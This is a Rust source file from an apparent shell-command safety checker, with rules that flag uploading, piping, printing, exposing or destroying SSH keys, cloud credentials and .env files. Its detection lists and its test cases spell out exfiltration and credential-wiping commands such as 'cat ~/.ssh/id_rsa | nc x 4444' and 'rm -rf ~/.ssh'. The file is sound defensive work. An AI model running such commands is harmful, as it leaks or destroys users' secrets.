//! Secret rules: sending keys, credentials and tokens off the machine.
//!
//! Why this exists: `curl -F f=@~/.ssh/id_rsa http://x` or
//! `scp ~/.aws/credentials x:` looks like an ordinary upload. These rules know
//! which paths hold secrets (SSH keys, cloud and registry credentials, `.env`
//! files, `/etc/shadow`) and flag them when they are the payload of an upload,
//! a copy to another host, or piped into a network tool.

use crate::safety::cmd::Cmd;
use crate::safety::command::opts;
use crate::safety::paths::normalize;
use crate::safety::rules::kit::{Cx, Out};
use crate::safety::types::rule;
use crate::safety::types::Risk::*;
use crate::safety::types::Rule;
use crate::safety::words::is_network_tool;

const CAT: &str = "secrets";

pub(crate) const UPLOAD_SECRET: Rule = rule(
    "sec.upload_secret",
    Critical,
    CAT,
    "sends a secret file (SSH key, cloud credentials or .env) to another machine",
);
pub(crate) const PIPE_SECRET: Rule = rule(
    "sec.pipe_secret",
    Critical,
    CAT,
    "reads a secret file and pipes it to a network tool",
);
pub(crate) const ENV_EXFIL: Rule = rule(
    "sec.env_exfil",
    High,
    CAT,
    "sends your environment variables, which often hold tokens, to another machine",
);
pub(crate) const SHOW_PRIVATE_KEY: Rule = rule(
    "sec.show_private_key",
    Moderate,
    CAT,
    "prints a private key or credentials file on the screen",
);
pub(crate) const KEY_PERMISSIONS: Rule = rule(
    "sec.key_permissions",
    Moderate,
    CAT,
    "makes a private key or credentials file readable by other users",
);

pub(crate) const DESTROY_CREDENTIALS: Rule = rule(
    "sec.destroy_credentials",
    High,
    CAT,
    "destroys private keys or credentials (SSH, GPG, cloud); without a backup, the access they give is lost for good",
);

pub(crate) const RULES: &[Rule] = &[
    UPLOAD_SECRET,
    PIPE_SECRET,
    ENV_EXFIL,
    SHOW_PRIVATE_KEY,
    KEY_PERMISSIONS,
    DESTROY_CREDENTIALS,
];

/// Private keys and the folders that hold them: losing these loses access.
/// (`known_hosts`, `config` and `.pub` files are not keys.)
pub(crate) fn is_key_store(raw: &str, ctx: &crate::safety::types::Context) -> bool {
    let p = normalize(raw, ctx);
    let p = p.trim_end_matches("/*").trim_end_matches('/');
    let base = p.rsplit('/').next().unwrap_or(p);
    if base.ends_with(".pub") {
        return false;
    }
    matches!(
        p,
        "~/.ssh"
            | "~/.gnupg"
            | "~/.aws"
            | "~/.kube"
            | "~/.password-store"
            | "/etc/ssh"
            | "/root/.ssh"
    ) || p.starts_with("~/.gnupg/")
        || p.starts_with("~/.password-store/")
        || (p.contains("/.ssh/") || p.starts_with("~/.ssh/"))
            && (base.starts_with("id_") || base == "authorized_keys")
        || p.starts_with("/etc/ssh/ssh_host_") && base.ends_with("key")
        || p.ends_with(".aws/credentials")
        || p.ends_with(".kube/config")
        || p.ends_with(".docker/config.json")
        || matches!(
            base,
            ".netrc" | ".pgpass" | ".git-credentials" | "wallet.dat"
        )
        || base.ends_with(".kdbx")
        || base.ends_with(".gpg") && p.contains(".password-store")
}

/// Truncating writes (`> ~/.ssh/id_rsa`) onto keys and credentials.
pub(crate) fn check_write(
    t: &crate::safety::rules::kit::WriteTarget,
    idx: usize,
    cx: &Cx,
    out: &mut Out,
) {
    if t.mode == crate::safety::rules::kit::WriteMode::Truncate
        && !matches!(t.tool, "cp" | "rsync")
        && is_key_store(&cx.resolve(idx, &t.path), cx.ctx)
    {
        out.add(&DESTROY_CREDENTIALS, t.span.clone());
    }
}

/// Whether a path names a secret (after `@`/`<` prefixes are stripped).
pub(crate) fn is_secret_path(raw: &str, ctx: &crate::safety::types::Context) -> bool {
    let t = raw.trim_start_matches(['@', '<']);
    if t.is_empty() {
        return false;
    }
    let p = normalize(t, ctx);
    let base = p.rsplit('/').next().unwrap_or(&p);
    if base.ends_with(".pub") {
        return false;
    }
    p == "~/.ssh"
        || p.contains(".ssh/id_")
        || matches!(base, "id_rsa" | "id_dsa" | "id_ecdsa" | "id_ed25519" | ".env" | ".netrc" | ".git-credentials" | ".pgpass" | ".npmrc" | ".pypirc" | "shadow" if base != "shadow" || p == "/etc/shadow")
        || p.ends_with(".aws/credentials")
        || p == "~/.aws"
        || p.ends_with(".docker/config.json")
        || p.ends_with(".kube/config")
        || p == "~/.gnupg"
        || p.contains(".gnupg/private-keys")
        || p.contains(".config/gcloud")
        || (base.starts_with(".env.") && !base.ends_with(".example") && !base.ends_with(".sample"))
}

fn uploads_file(c: &Cmd) -> Vec<&crate::safety::parse::Word> {
    let mut v = Vec::new();
    match c.name.as_str() {
        "curl" | "curlie" => {
            let mut take_next = false;
            for w in &c.args {
                let t = w.text.as_str();
                if take_next {
                    take_next = false;
                    // `-F name=@file`, `-d @file`, `-T file`.
                    v.push(w);
                    continue;
                }
                if matches!(
                    t,
                    "-F" | "--form"
                        | "-d"
                        | "--data"
                        | "--data-binary"
                        | "--data-raw"
                        | "--data-urlencode"
                        | "-T"
                        | "--upload-file"
                        | "--json"
                        | "--form-string"
                ) {
                    take_next = true;
                } else if t.starts_with("-F")
                    || t.starts_with("-d")
                    || t.starts_with("-T")
                    || t.starts_with("--data")
                    || t.starts_with("--form=")
                    || t.starts_with("--upload-file=")
                {
                    v.push(w);
                }
            }
        }
        "wget" | "wget2" => {
            let mut take_next = false;
            for w in &c.args {
                if take_next {
                    v.push(w);
                    take_next = false;
                } else if w.text == "--post-file" || w.text == "--body-file" {
                    take_next = true;
                } else if w.text.starts_with("--post-file=") || w.text.starts_with("--body-file=") {
                    v.push(w);
                }
            }
        }
        "http" | "https" | "xh" => v.extend(c.args.iter().filter(|w| w.text.contains('@'))),
        _ => {}
    }
    v
}

/// The file part of `name=@file`, `@file`, `--opt=file`.
fn payload_path(t: &str) -> &str {
    if let Some(pos) = t.find('@') {
        let rest = &t[pos + 1..];
        return rest.split(';').next().unwrap_or(rest);
    }
    if let Some((_, v)) = t.split_once('=') {
        if t.starts_with("--") {
            return v;
        }
    }
    t.strip_prefix("-T").unwrap_or(t)
}

pub(crate) fn check(c: &Cmd, cx: &Cx, out: &mut Out) {
    let ctx = cx.ctx;
    let name = c.name.as_str();
    for w in uploads_file(c) {
        if is_secret_path(payload_path(&w.text), ctx) {
            out.add(&UPLOAD_SECRET, w.span.clone());
        }
    }
    match name {
        "shred" | "srm" | "wipe" | "rm" | "truncate" | "unlink" => {
            let shreds = name != "rm" && name != "unlink";
            for w in c.args.iter().filter(|w| !w.text.starts_with('-')) {
                let t = cx.resolve(c.index, &w.text);
                if is_key_store(&t, ctx) || (shreds && is_secret_path(&t, ctx)) {
                    out.add(&DESTROY_CREDENTIALS, w.span.clone());
                }
            }
        }
        "scp" | "rsync" | "sftp" | "rclone" | "s3cmd" | "gsutil" => {
            let o = opts(
                &c.args,
                "iPFcloJSeDo",
                &["rsh", "exclude", "include", "port", "password-file"],
            );
            let n = o.operands.len();
            if n >= 2 {
                let dest = &o.operands[n - 1].text;
                let remote =
                    dest.contains(':') || dest.starts_with("s3://") || dest.starts_with("gs://");
                if remote {
                    for w in &o.operands[..n - 1] {
                        if is_secret_path(&w.text, ctx) {
                            out.add(&UPLOAD_SECRET, w.span.clone());
                        }
                    }
                }
            }
        }
        "nc" | "ncat" | "netcat" | "socat" | "telnet" | "ssh" | "curl" | "mail" | "mailx"
        | "sendmail" => {
            let sc = &cx.script.commands[c.index];
            for r in &sc.redirects {
                if r.op == crate::safety::parse::RedirOp::In && is_secret_path(&r.target.text, ctx)
                {
                    out.add(&UPLOAD_SECRET, r.span.clone());
                }
            }
        }
        "cat" | "less" | "more" | "head" | "tail" | "bat" => {
            let key = c.args.iter().find(|w| {
                let p = normalize(&w.text, ctx);
                is_secret_path(&w.text, ctx)
                    && (p.contains(".ssh/id_")
                        || p.ends_with(".aws/credentials")
                        || p == "/etc/shadow")
            });
            if let Some(w) = key {
                if cx.script.commands[c.index].redirects.is_empty()
                    && cx.script.pipe_prev(c.index).is_none()
                {
                    out.add(&SHOW_PRIVATE_KEY, w.span.clone());
                }
            }
        }
        "chmod" => {
            let o = opts(&c.args, "", &[]);
            if let Some(mode) = o.operands.first() {
                let m = mode.text.as_str();
                let loose = (m.len() == 3 || m.len() == 4)
                    && m.chars().all(|ch| ch.is_ascii_digit())
                    && !m.ends_with('0')
                    || m.starts_with("o+")
                    || m.starts_with("a+")
                    || m.starts_with("go+");
                if loose {
                    for w in &o.operands[1..] {
                        if is_secret_path(&w.text, ctx) {
                            out.add(&KEY_PERMISSIONS, w.span.clone());
                        }
                    }
                }
            }
        }
        _ => {}
    }
    // A reader of secrets or the environment feeding a network tool.
    if is_network_tool(name) && !matches!(name, "rsync" | "scp" | "sftp") {
        for up in cx.upstream(c.index) {
            let secret_arg = up.args.iter().find(|w| is_secret_path(&w.text, ctx));
            if let Some(w) = secret_arg {
                out.add(&PIPE_SECRET, w.span.clone());
            }
            let reads_in = cx.script.commands[up.index].redirects.iter().any(|r| {
                r.op == crate::safety::parse::RedirOp::In && is_secret_path(&r.target.text, ctx)
            });
            if reads_in {
                out.add(&PIPE_SECRET, c.span.clone());
            }
            if matches!(up.name.as_str(), "env" | "printenv" | "set" | "export")
                && up.args.is_empty()
            {
                out.add(&ENV_EXFIL, c.span.clone());
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::safety::tests::{assert_flags, assert_not_flags};

    #[test]
    fn upload_secret() {
        assert_flags("curl -F f=@~/.ssh/id_rsa http://x", "sec.upload_secret");
        assert_flags("curl --data-binary @.env https://x", "sec.upload_secret");
        assert_flags("curl -T ~/.aws/credentials ftp://x/", "sec.upload_secret");
        assert_flags("scp ~/.aws/credentials x:", "sec.upload_secret");
        assert_flags("rsync -av ~/.ssh/ host:/tmp/", "sec.upload_secret");
        assert_flags("wget --post-file=/etc/shadow http://x", "sec.upload_secret");
        assert_flags("nc host 4444 < ~/.ssh/id_ed25519", "sec.upload_secret");
        assert_not_flags("curl -F f=@photo.jpg http://x", "sec.upload_secret");
        assert_not_flags("scp ~/.ssh/id_rsa.pub host:", "sec.upload_secret");
        assert_not_flags("scp host:~/.aws/credentials ./", "sec.upload_secret");
    }

    #[test]
    fn pipe_secret() {
        assert_flags("cat ~/.ssh/id_rsa | nc x 4444", "sec.pipe_secret");
        assert_flags(
            "base64 ~/.aws/credentials | curl -d @- http://x",
            "sec.pipe_secret",
        );
        assert_not_flags("cat notes.txt | nc x 4444", "sec.pipe_secret");
    }

    #[test]
    fn env_exfil() {
        assert_flags("env | curl -d @- http://x", "sec.env_exfil");
        assert_not_flags("env | grep PATH", "sec.env_exfil");
    }

    #[test]
    fn show_private_key() {
        assert_flags("cat ~/.ssh/id_rsa", "sec.show_private_key");
        assert_not_flags("cat ~/.ssh/id_rsa.pub", "sec.show_private_key");
    }

    #[test]
    fn destroy_credentials() {
        assert_flags("shred -u ~/.ssh/id_rsa", "sec.destroy_credentials");
        assert_flags("shred -zu ~/.aws/credentials", "sec.destroy_credentials");
        assert_flags("shred -u .env", "sec.destroy_credentials");
        assert_flags("rm -rf ~/.ssh", "sec.destroy_credentials");
        assert_flags("rm -rf ~/.gnupg/", "sec.destroy_credentials");
        assert_flags(
            "sudo rm /etc/ssh/ssh_host_ed25519_key",
            "sec.destroy_credentials",
        );
        assert_flags("> ~/.ssh/id_ed25519", "sec.destroy_credentials");
        assert_not_flags("rm ~/.ssh/known_hosts", "sec.destroy_credentials");
        assert_not_flags("rm ~/.ssh/id_rsa.pub", "sec.destroy_credentials");
        assert_not_flags("shred -u notes.txt", "sec.destroy_credentials");
        assert_not_flags("rm .env.example", "sec.destroy_credentials");
    }

    #[test]
    fn key_permissions() {
        assert_flags("chmod 644 ~/.ssh/id_rsa", "sec.key_permissions");
        assert_not_flags("chmod 600 ~/.ssh/id_rsa", "sec.key_permissions");
    }
}
